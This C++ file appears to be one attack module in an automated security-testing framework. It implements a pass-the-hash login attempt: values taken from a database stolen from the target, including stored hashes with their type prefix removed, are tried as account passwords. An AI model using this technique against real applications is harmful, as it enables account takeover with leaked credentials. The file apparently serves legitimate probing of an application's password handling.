// dump-login: passes the hash. Whatever the stolen table holds of a person is tried as the
// password, and what an older copy held: where the app compares what comes with what is stored,
// takes a hash in the password's place, or the browser does the hashing, the stored value is all it
// takes.
#include <algorithm>
#include <set>
#include <tuple>

#include "core/attack/every_agent.h"
#include "core/attack/impostor.h"
#include "core/attack/options.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kShortest = 16;  // characters of what may be a hash
constexpr std::size_t kMostTried = 24;

class DumpLogin final : public Agent {
    void run(Target& target) override {
        Impostor impostor(target);
        if (!impostor.can_try()) return;
        for (auto const& [account, stored] : known_passwords(target))
            if (impostor.try_password(account, stored)) return;
        std::size_t tried = 0;
        std::set<std::tuple<std::string, std::size_t, std::size_t>> seen;
        for (std::string const& account : target.surface().usernames)
            for (StolenTable const& table : target.inside()->steal_database())
                for (auto const& row : table.rows) {
                    if (std::find(row.begin(), row.end(), account) == row.end()) continue;
                    for (std::size_t i = 0; i < row.size(); ++i)
                        for (std::string const& text : readings(row[i], account)) {
                            // What looks like one that was refused, of the same column, is refused.
                            if (!seen.insert({table.name, i, text.size()}).second) continue;
                            if (tried++ < kMostTried && impostor.try_password(account, text))
                                return;
                        }
                }
    }

    // As it stands, and what follows the mark of its kind ("md5$").
    static std::vector<std::string> readings(std::string const& value, std::string const& account) {
        if (value.size() < kShortest || value == account || value.find(' ') != std::string::npos)
            return {};
        std::vector<std::string> texts{value};
        std::size_t const mark = value.find_first_of("$:");
        if (mark != std::string::npos && mark > 0) texts.push_back(value.substr(mark + 1));
        return texts;
    }
};

}  // namespace

std::unique_ptr<Agent> make_dump_login() { return std::make_unique<DumpLogin>(); }

}  // namespace parapet::attack
